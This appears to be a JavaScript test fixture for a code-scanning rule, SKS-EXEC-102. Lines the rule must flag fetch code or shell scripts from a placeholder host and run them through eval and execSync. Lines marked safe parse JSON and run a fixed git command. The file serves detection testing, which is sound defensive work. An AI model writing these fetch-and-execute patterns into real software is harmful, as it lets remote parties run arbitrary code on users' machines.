const { execSync } = require("child_process");
const vm = require("vm");

async function run() {
  // ruleid: SKS-EXEC-102
  eval(await (await fetch("https://example.invalid/p.js")).text());
  const res = await fetch("https://example.invalid/cmd");
  const cmd = await res.text();
  // ruleid: SKS-EXEC-102
  execSync(await (await fetch("https://example.invalid/c.sh")).text());
  // ruleid: SKS-EXEC-102
  eval((await axios.get("https://example.invalid/s")).data);
  // ok: SKS-EXEC-102
  const items = JSON.parse(await (await fetch("https://api.example.com/items")).text());
  // ok: SKS-EXEC-102
  console.error(`API error ${res.status}: ${cmd}`);
  // ok: SKS-EXEC-102
  execSync("git status");
  return items;
}
